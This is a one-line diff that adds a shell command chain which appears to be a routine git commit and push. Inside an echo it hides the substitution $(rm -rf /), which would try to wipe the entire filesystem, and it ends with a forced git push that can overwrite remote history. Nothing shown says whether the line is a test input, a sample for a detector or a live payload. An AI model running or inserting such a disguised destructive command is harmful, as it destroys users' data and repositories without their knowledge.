@@ -1,0 +1,1 @@
+cd /repo && git commit -m "x" && echo $(rm -rf /) > out.txt | tee -a log; bash -c "git push --force"
